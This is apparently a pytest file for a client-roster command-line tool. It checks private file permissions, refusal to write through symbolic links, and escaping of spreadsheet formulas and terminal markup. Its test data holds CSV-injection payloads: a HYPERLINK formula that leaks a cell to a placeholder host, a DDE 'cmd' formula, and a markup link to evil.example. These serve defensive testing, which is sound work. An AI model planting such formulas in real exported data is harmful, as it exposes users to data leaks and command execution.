"""Issue 15, items 5 (files) and 8: files with client data are private and never written
through a link; data is never read as terminal markup or run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import sqlalchemy as sa

from storage.db import make_engine
from storage.errors import ImportFileError
from storage.roster import import_roster, rejects_path_for
from tests.support.cli import run_cli


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_database_file_is_the_owners_alone(tmp_path: Path) -> None:
    old = os.umask(0o022)  # a usual umask: files would be world-readable
    try:
        engine = make_engine(f"sqlite:///{tmp_path / 'dw.db'}")
        with engine.begin() as conn:
            conn.execute(sa.text("CREATE TABLE t (x)"))
        engine.dispose()
    finally:
        os.umask(old)
    assert _mode(tmp_path / "dw.db") == 0o600


def test_rejects_file_is_private_never_through_a_link_and_formula_safe(
    engine: sa.Engine, tmp_path: Path
) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "A-Number,Client Name,Nationality\n"
        'A-912-000-001,"DOE, JANE",MX\n'
        'not-a-number,=HYPERLINK("http://x.example/?"&A1),MX\n'
        "A-912-000-003,@SUM(1+1),ZZ\n"
    )
    target = rejects_path_for(roster)
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("keep me")
    target.symlink_to(elsewhere)
    try:
        import_roster(engine, roster)
    except ImportFileError as exc:
        assert "symbolic link" in str(exc)
    else:
        raise AssertionError("a rejects file was written through a symbolic link")
    assert elsewhere.read_text() == "keep me"
    target.unlink()
    old = os.umask(0o022)
    try:
        report = import_roster(engine, roster)
    finally:
        os.umask(old)
    assert len(report.rejects) == 2 and report.rejects_path == target
    assert _mode(target) == 0o600
    rows = list(csv.reader(target.open(encoding="utf-8")))
    cells = [cell for row in rows[1:] for cell in row[3:]]
    assert '\'=HYPERLINK("http://x.example/?"&A1)' in cells and "'@SUM(1+1)" in cells
    assert not any(c.startswith(("=", "@", "+", "-")) for c in cells)


def test_markup_in_data_is_printed_as_it_is_and_csv_is_formula_safe(tmp_path: Path) -> None:
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'dw.db'}"}
    assert run_cli("init", cwd=tmp_path, env=env).returncode == 0
    names = [
        "[/]",
        "[link=http://evil.example]CLICK[/link]",
        "-2+3",
        "=cmd|' /C calc'!A0",
        "RUIZ, :smiley:",
    ]
    for i, name in enumerate(names):
        added = run_cli(
            "clients",
            "add",
            f"91200010{i}",
            "--name",
            name,
            "--nationality",
            "MX",
            cwd=tmp_path,
            env=env,
        )
        assert added.returncode == 0, added.stderr
    listed = run_cli("clients", "list", cwd=tmp_path, env=env)
    assert listed.returncode == 0, listed.stderr
    assert "[/]" in listed.stdout and "[link=http://evil.example]CLICK[/link]" in listed.stdout
    assert "\x1b]8;" not in listed.stdout  # no terminal hyperlink escape
    assert "RUIZ, :smiley:" in listed.stdout  # not an emoji
    exported = run_cli("clients", "list", "--csv", cwd=tmp_path, env=env)
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    escaped = [
        "[/]",
        "[link=http://evil.example]CLICK[/link]",
        "'-2+3",
        "'=cmd|' /C calc'!A0",
        "RUIZ, :smiley:",
    ]
    assert sorted(r["name"] for r in rows) == sorted(escaped)
    missing = run_cli("clients", "show", "[/]", cwd=tmp_path, env=env)
    assert missing.returncode == 2 and "Traceback" not in missing.stderr
